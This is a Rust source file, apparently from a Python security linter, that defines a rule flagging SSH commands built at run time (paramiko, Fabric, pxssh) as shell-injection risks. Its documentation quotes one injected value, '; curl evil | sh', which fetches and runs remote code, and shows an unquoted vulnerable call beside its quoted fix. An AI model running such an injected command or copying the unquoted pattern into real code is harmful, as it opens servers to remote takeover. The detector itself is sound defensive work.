use super::commands::is_quoted;
use crate::CallFilter;
use crate::checker::Checker;
use crate::declare_rule;
use crate::helpers::{Truth, in_module, method_name, origin};
use crate::rule::Category;
use vigil_knowledge::{Method, Receiver, remote};
use vigil_python::Ranged;
use vigil_python::ast::{Expr, ExprCall};
use vigil_report::{Confidence, Severity};

/// The method of the family called on a receiver made by one of its
/// constructors (`client = SSHClient(); client.exec_command(...)`).
fn receiver_method(
    checker: &Checker,
    call: &ExprCall,
) -> Option<(&'static Receiver, &'static Method)> {
    let Expr::Attribute(attribute) = call.func.as_ref() else {
        return None;
    };
    let callee = origin(checker, &attribute.value)?.callee?;
    remote::receiver_method(&callee, attribute.attr.as_str())
}

fn check(checker: &mut Checker, call: &ExprCall, qualified: Option<&str>) {
    let (confidence, (position, keyword), switch) =
        if qualified.is_some_and(|q| remote::FABRIC_FUNCTIONS.contains(&q)) {
            (
                Confidence::High,
                remote::COMMAND_PARAMETER,
                Some(remote::FABRIC_SHELL),
            )
        } else if let Some((receiver, method)) = receiver_method(checker, call) {
            (
                Confidence::High,
                (method.position, method.keyword),
                receiver.unless_false,
            )
        } else {
            // Bandit's heuristic: a module that imports paramiko and calls
            // `exec_command` on something.
            let exec = remote::SSH_CLIENT.method("exec_command");
            match exec {
                Some(method)
                    if method_name(call) == Some(method.name)
                        && checker
                            .semantic
                            .imported_names()
                            .any(|name| in_module(name, "paramiko")) =>
                {
                    (Confidence::Medium, (method.position, method.keyword), None)
                }
                _ => return,
            }
        };
    // `shell=False` (Fabric): the command is not wrapped in a shell.
    if let Some(switch) = switch
        && call
            .arguments
            .find_keyword(switch)
            .is_some_and(|k| checker.truth(&k.value) == Truth::False)
    {
        return;
    }
    let Some(command) = call.arguments.find_argument_value(keyword, position) else {
        return;
    };
    let callee = checker.snippet(&*call.func);
    if is_quoted(checker, command) {
        let message = if checker.is_constant(command) {
            format!(
                "`{callee}` runs a fixed command through the remote host's shell: check what it does there"
            )
        } else {
            format!(
                "`{callee}` runs a command through the remote host's shell; its dynamic parts are quoted with `shlex.quote()`, check that each one is"
            )
        };
        checker
            .report(&RULE, call.range(), message)
            .audit_only()
            .severity(Severity::Low)
            .confidence(confidence);
    } else {
        let message = format!(
            "`{callee}` runs a command built at run time through the remote host's shell: shell metacharacters in it are executed there"
        );
        checker
            .report(&RULE, call.range(), message)
            .confidence(confidence);
    }
}

declare_rule! {
    /// ## What it does
    /// Flags commands built at run time and run on another machine over
    /// SSH: paramiko's `SSHClient.exec_command`, Fabric's `Connection.run`
    /// and `.sudo` (and its groups'), Fabric 1's `run` and `sudo` (unless
    /// `shell=False`), and pexpect's `pxssh` sessions' `sendline`. Fixed
    /// commands are listed in `--audit` mode. Other SSH and network-device
    /// sessions (asyncssh, ssh2-python, netmiko, scrapli, Twisted Conch)
    /// are sinks of the dataflow rule `command-injection`: there, only
    /// untrusted data in the command is reported.
    ///
    /// ## Why is this bad?
    /// The command string is handed to the login shell of the remote
    /// account, which parses it like `os.system` would. A host name, file
    /// name or user name pasted into it can end the command and start
    /// another (`; curl evil | sh`), with that account's rights on that
    /// machine, often a server that trusts this one.
    ///
    /// ## Example
    /// ```python
    /// client.exec_command(f"tail -n 100 /var/log/{service}.log")
    /// ```
    ///
    /// ## Use instead
    /// Validate values against a strict pattern or a list of allowed
    /// values, and quote each one for the remote shell:
    /// ```python
    /// client.exec_command(f"tail -n 100 /var/log/{shlex.quote(service)}.log")
    /// ```
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    pub static RULE = {
        name: "remote-shell-command",
        category: Category::Injection,
        cwe: &[78],
        severity: Severity::High,
        confidence: Confidence::High,
        bandit: &["B601"],
        ruff: &["S601"],
        help: "Do not paste data into remote commands: validate it against an allow-list and quote it with `shlex.quote()`.",
        on_call: check,
        call_filter: CallFilter {
            names: || remote::FABRIC_FUNCTIONS.to_vec(),
            methods: || remote::method_names().collect(),
            ..CallFilter::NONE
        },
    };
}
